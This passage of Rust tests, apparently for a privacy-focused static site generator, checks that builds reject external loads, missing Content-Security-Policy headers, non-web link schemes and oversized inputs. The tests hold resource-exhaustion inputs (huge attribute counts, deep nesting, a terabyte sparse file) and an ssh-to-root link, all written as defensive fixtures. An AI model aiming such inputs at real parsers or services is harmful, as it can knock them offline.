            &base,
            text.replacen("</head>", &format!("{addition}\n</head>"), 1),
        )
        .unwrap();
        let strings = site.path().join("themes/campaign/i18n/en.yaml");
        let yaml = std::fs::read_to_string(&strings).unwrap();
        std::fs::write(
            &strings,
            yaml.replace(
                "privacy_note: This site loads nothing from other websites and sets no cookies.",
                "privacy_note: \"https://u.example/icon.png\"",
            ),
        )
        .unwrap();
        let err = build_error(site.path());
        assert!(
            err.contains("themes/campaign/templates/") && err.contains(host),
            "{err}"
        );
    }
    // A theme whose pages drop the site's policy.
    let site = fixture("i18n");
    let base = site.path().join("themes/campaign/templates/base.html");
    let text = std::fs::read_to_string(&base).unwrap();
    let without: String = text
        .lines()
        .filter(|l| !l.contains("Content-Security-Policy"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(&base, without).unwrap();
    let err = build_error(site.path());
    assert!(
        err.contains("does not carry its Content-Security-Policy"),
        "{err}"
    );
}

#[test]
fn raw_html_keeps_only_web_mail_and_phone_links() {
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/schemes.md",
        "---\ntitle: Schemes\ndate: 2024-03-01\n---\n<a href=\"webcal://cal.example/x.ics\">calendar</a> \
         <a href=\"ssh://root@h.example\">shell</a> <a href=\"magnet:?xt=urn:x\">file</a> \
         <a href=\"https://ok.example/\">web</a> <a href=\"mailto:desk@fixture.example.org\">mail</a>\n",
    );
    let built = Built::new(site.path());
    let page = built.html("releases/schemes/index.html");
    let hrefs = common::attrs(&page, "main a[href]", "href");
    for href in &hrefs {
        assert!(
            ["https:", "http:", "mailto:", "tel:"]
                .iter()
                .any(|s| href.starts_with(s)),
            "{href} kept"
        );
    }
    let text = common::text(&page, "main");
    for kept in ["calendar", "shell", "file"] {
        assert!(text.contains(kept), "{kept} lost");
    }
}

/// Found in review: ways round the first bounds, each refused quickly now.
#[test]
fn inputs_past_the_bounds_by_other_roads_are_refused() {
    let cases = [
        (
            // `=` after a value starts a new attribute, as the tokenizer reads it.
            "equals.md",
            format!(
                "---\ntitle: Equals\ndate: 2024-03-01\n---\n<p a=1{}>x</p>\n",
                (0..100_000)
                    .map(|i| format!(" =a{i} =v"))
                    .collect::<String>()
            ),
            "content/releases/equals.md:5: raw HTML with a tag with more than 256 attributes",
        ),
        (
            // In SVG, `<style>` holds markup: the nesting still counts.
            "svgstyle.md",
            format!(
                "---\ntitle: Svg\ndate: 2024-03-01\n---\n<svg><style>{}\n",
                "<div>".repeat(50_000)
            ),
            "content/releases/svgstyle.md:5: raw HTML with elements nested more than",
        ),
        (
            "svgbold.md",
            format!(
                "---\ntitle: Svg\ndate: 2024-03-01\n---\nText.\n\n<svg><style>{}{}\n",
                (0..1_500)
                    .map(|i| format!("<b class=c{i}>"))
                    .collect::<String>(),
                "<p>x</p>".repeat(1_500)
            ),
            "content/releases/svgbold.md:7: raw HTML with more than 16 formatting elements",
        ),
        (
            // A tag or anchor before each bracket.
            "tagged.md",
            format!(
                "---\ntitle: Tagged\ndate: 2024-03-01\nextra: {}\n---\n",
                "[!t ".repeat(100_000)
            ),
            "content/releases/tagged.md:4: brackets or braces nested more than",
        ),
        (
            "anchored.md",
            format!(
                "---\ntitle: Anchored\ndate: 2024-03-01\nextra: {}\n---\n",
                "[&a ".repeat(100_000)
            ),
            "content/releases/anchored.md:4: brackets or braces nested more than",
        ),
        (
            "tags.md",
            format!(
                "---\ntitle: Tags\ndate: 2024-03-01\ntags: [{}]\n---\n",
                (0..101)
                    .map(|i| format!("t{i}"))
                    .collect::<Vec<_>>()
                    .join(",")
            ),
            "content/releases/tags.md:4: 101 tags",
        ),
    ];
    for (name, text, expected) in cases {
        let site = fixture("i18n");
        write(site.path(), &format!("content/releases/{name}"), &text);
        let err = build_error(site.path());
        assert!(err.contains(expected), "{name}: {err}");
    }
    // A sparse file claiming a terabyte, as a tar can hold.
    let site = fixture("i18n");
    write(site.path(), "static/big.pdf", "");
    std::fs::File::options()
        .write(true)
        .open(site.path().join("static/big.pdf"))
        .unwrap()
        .set_len(1 << 40)
        .unwrap();
    let err = build_error(site.path());
    assert!(
        err.contains("static/big.pdf") && err.contains("larger than"),
        "{err}"
    );
}

#[test]
fn the_line_of_raw_html_past_a_bound_is_where_it_is_crossed() {
    let site = fixture("i18n");
    let paragraphs = "Paragraph.\n\n".repeat(20);
    write(
        site.path(),
        "content/releases/late.md",
        &format!(
            "---\ntitle: Late\ndate: 2024-03-01\n---\nIntro.\n\n<div>closed</div>\n\n{paragraphs}{}",
            "<div>\n".repeat(300)
        ),
    );
    let err = build_error(site.path());
    let line: usize = err
        .split("content/releases/late.md:")
        .nth(1)
        .and_then(|r| r.split(':').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{err}"));
    assert!(
        (300..=310).contains(&line),
        "reported at line {line}: {err}"
    );
}

/// Found by the privacy fuzz target: text mentioning `url(…)` in an `alt` was read as
/// CSS, and its "URL" as a load.
#[test]
fn an_alt_text_that_mentions_url_is_no_load() {
    let site = fixture("i18n");
    write(
        site.path(),
        "content/releases/alt.md",
        "---\ntitle: Alt\ndate: 2024-03-01\n---\n<img src=\"/a.png\" alt=\"font {src:url(https://f.example/f.woff2)}\">\n",
    );
    let built = Built::new(site.path());
    assert!(
        built.read("releases/alt/index.html").contains("f.example"),
        "the text stays"
    );
}

/// Found by the privacy fuzz target: an XML file starting with a byte-order mark
/// panicked the scanner.
#[test]
fn a_static_svg_with_a_byte_order_mark_builds() {
    let site = fixture("i18n");
    write(
        site.path(),
        "static/bom.svg",
        "\u{feff}<svg xmlns=\"http://www.w3.org/2000/svg\">\n<circle r=\"4\"/></svg>\n",
    );
    let built = Built::new(site.path());
    assert!(built.exists("bom.svg"));
}
